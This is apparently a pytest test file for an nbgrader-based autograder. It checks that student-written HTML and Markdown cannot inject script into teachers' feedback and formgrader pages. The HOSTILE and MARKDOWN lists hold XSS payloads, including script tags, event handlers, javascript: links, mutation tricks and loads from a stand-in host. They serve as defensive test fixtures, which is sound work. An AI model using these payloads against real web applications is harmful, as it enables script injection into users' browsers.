"""Attacks by means of what a teacher's browser shows: no script of a student's gets into a page.

The pages are made by nbgrader's own converter and, for the formgrader, by the exporter and the
template with which its server makes them.
"""

import copy
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from bs4 import BeautifulSoup, Tag
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
from nbgrader.server_extensions.formgrader import handlers

from autograder.bridge.course import Course
from autograder.bridge.safe_html import clean_html
from tests.small_course import make_course, nbgrader_cell, notebook_of

CONFIG = """
from autograder.bridge import configure
c = get_config()
configure(c)
"""
GRADERS = '''
import pytest
from autograder.grading import Submission

@pytest.mark.grade_cell("one-a")
def test_a(submission: Submission) -> None:
    """`a` is one."""
    assert submission.value("a") == 1
'''
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
HOSTILE = [
    "<script>alert('EVIL')</script>",
    "<script src='//evil.example/EVIL.js'></script>",
    "<img src=x onerror=\"alert('EVIL')\">",
    "<img src='https://evil.example/EVIL.png'>",
    "<svg onload=\"alert('EVIL')\"><script>alert('EVIL')</script></svg>",
    "<iframe srcdoc=\"<script>alert('EVIL')</script>\"></iframe>",
    "<a href=\"javascript:alert('EVIL')\">x</a>",
    "<a href=\"&#106;ava\nscript:alert('EVIL')\">x</a>",
    "<a href='data:text/html,<script>EVIL</script>'>x</a>",
    "<div style=\"background:url('javascript:EVIL');position:fixed\">x</div>",
    "<style>body { background: url('//evil.example/EVIL') }</style>",
    "<link rel=stylesheet href='//evil.example/EVIL.css'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/EVIL'>",
    "<form action='/formgrader/api/EVIL'><input class='score' id='one-a' value=9></form>",
    "<b class='score tab' id='one-a' data-x='EVIL'>9</b>",
    "<object data='EVIL'></object><embed src='EVIL'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=EVIL></style></mglyph></table></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('EVIL')>\"></noscript>",
    "<textarea></textarea><img src=x onerror=EVIL>",
    "</div></div></body><script>EVIL</script>",
    "<template><script>EVIL</script></template>",
    "<base href='//evil.example/EVIL/'>",
    "<button onclick=EVIL formaction='javascript:EVIL'>x</button>",
    "<details open ontoggle=EVIL>x</details>",
    "<!--><script>EVIL</script>-->",
    "<scr\0ipt>EVIL</scr\0ipt>",
]
MARKDOWN = [
    "[x](javascript:alert('EVIL'))",
    "![x](javascript:EVIL)",
    "![x](attachment:EVIL.png)",
    "<javascript:EVIL>",
    "# <script>EVIL</script>",
    "`<script>EVIL</script>`",
    "$<script>EVIL</script>$",
    "$$\\href{javascript:EVIL}{x}$$ <img src=x onerror=EVIL>",
    "\\begin{a}<script>EVIL</script>\\end{a}",
    "```\n</code></pre><script>EVIL</script>\n```",
    '```x"><script>EVIL</script>\n1\n```',
    "| <script>EVIL</script> |\n|---|\n| <img src=x onerror=EVIL> |",
]


def honest_cells() -> list[Any]:
    return [nbgrader_cell("a = 1", "one-a-solution"), nbgrader_cell("assert a", "one-a", 3)]


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Course:
    root = tmp_path_factory.mktemp("course")
    return make_course(root, CONFIG, GRADERS, notebook_of(honest_cells()))


def pages(course: Course, student: str, more: list[Any]) -> Iterator[BeautifulSoup]:
    """The feedback page and the formgrader's page of a submission with more cells."""
    notebook = new_notebook()
    notebook.cells = [*honest_cells(), *more]
    path = course.folder("submitted", "one", student) / "one.ipynb"
    path.parent.mkdir(parents=True)
    nbformat.write(notebook, path)
    assert course.autograde("one", student).score == 3
    folder = course.feedback("one", student)
    assert folder is not None
    yield BeautifulSoup((folder / "one.html").read_text(), "html.parser")
    yield BeautifulSoup(formgrader_page(course, student), "html.parser")


def formgrader_page(course: Course, student: str) -> str:
    """As ``FormgradeExtension`` and its ``SubmissionHandler`` make it."""
    config = copy.deepcopy(course.app.config)
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    keys = ("assignment_id", "notebook_id", "submission_id", "student", "last_name", "first_name")
    resources = dict.fromkeys(keys, "x") | {"index": 0, "total": 1, "base_url": "/",
                                            "notebook_path": "x"}  # fmt: skip
    path = course.folder("autograded", "one", student) / "one.ipynb"
    html: str = HTMLExporter(config=config).from_filename(str(path), resources=resources)[0]
    return html


def signs_of_evil(page: BeautifulSoup) -> list[str]:
    """Elements that carry a student's text anywhere but in plain sight."""
    found = []
    for element in page.find_all(True):
        assert isinstance(element, Tag)
        held = {name: str(value) for name, value in element.attrs.items() if "EVIL" in str(value)}
        shown = element.name not in ("script", "style", "template", "noscript")
        if held and not set(held) <= {"alt", "title"}:
            found.append(str(element)[:200])
        if not shown and "EVIL" in element.get_text():
            found.append(str(element)[:200])
    return found


@pytest.mark.parametrize("written_as", ["markdown", "output", "raw"])
def test_what_a_student_writes_runs_on_no_page(course: Course, written_as: str) -> None:
    if written_as == "output":
        code = f"from IPython.display import HTML, Markdown, SVG, display\nfor t in {HOSTILE!r}:\n"
        shown = "display(HTML(t)); display(Markdown(t)); display({'image/svg+xml': t}, raw=True)"
        more = [new_code_cell(f"{code}    {shown}", id="more")]
    elif written_as == "markdown":
        more = [new_markdown_cell(text) for text in [*HOSTILE, *MARKDOWN]]
    else:
        more = [nbformat.v4.new_raw_cell(text) for text in HOSTILE]
    for page in pages(course, f"hostile-{written_as}", more):
        assert "EVIL" in page.get_text(), "it is shown, and does nothing"
        assert not signs_of_evil(page)
        for element in page.find_all(id="one-a"):
            assert element.name != "b"


def test_what_honest_students_show_is_shown(course: Course) -> None:
    text = (
        "# Título\n\nA *formula* $x < y$ and `a < b`:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "```python\nif a < b: pass\n```\n\n![pasted](attachment:p.png) ![gone](attachment:q.png)\n"
    )
    text += "\n![beside](img/fig.png) ![up](../fig.png) ![root](/etc/fig.png)\n"
    pasted = new_markdown_cell(text, attachments={"p.png": {"image/png": PIXEL}})
    style = "<style scoped>.dataframe { color: red }</style>"
    table = "<table class='dataframe' border='1'><tr><th>x</th></tr><tr><td>7</td></tr></table>"
    shown = new_code_cell(
        f"from IPython.display import HTML\nHTML({style[::-1]!r}[::-1] + {table!r})", id="table"
    )
    figure = new_code_cell("import matplotlib.pyplot as plt\nplt.plot([1, 2])", id="figure")
    for page in pages(course, "honest", [pasted, shown, figure]):
        heading = page.find("h1", string="Título")
        assert heading is not None
        assert "$x < y$" in page.get_text() and "a < b" in page.get_text()
        assert page.find("code", string="a < b") is not None
        assert page.find("td", string="2") is not None and page.find("td", string="7") is not None
        assert "color: red" not in page.get_text(), "as pandas writes it above each table"
        beside = {str(one.get("alt")): one.get("src") for one in page.find_all("img")}
        assert beside["beside"] == "img/fig.png"
        assert beside["up"] is beside["root"] is None
        pictures = [str(one.get("src")) for one in page.find_all("img")]
        assert any(PIXEL in picture for picture in pictures)
        assert sum(picture.startswith("data:image/png;base64,") for picture in pictures) >= 2
        result = page.find(class_="autograder")
        assert isinstance(result, Tag) and "max-width" in str(result.get("style"))


def test_clean_html_keeps_what_it_has_cleaned() -> None:
    for text in HOSTILE:
        assert clean_html(clean_html(text)) == clean_html(text)


def test_a_teacher_s_own_settings_of_other_filters_stay(tmp_path: Path) -> None:
    (tmp_path / "nbgrader_config.py").write_text(
        "from autograder.bridge import configure\nc = get_config()\n"
        "c.HTMLExporter.filters = {'shout': 'builtins.str.upper'}\nconfigure(c)\n"
    )
    assert set(Course(tmp_path).app.config.HTMLExporter.filters) >= {"shout", "clean_html"}
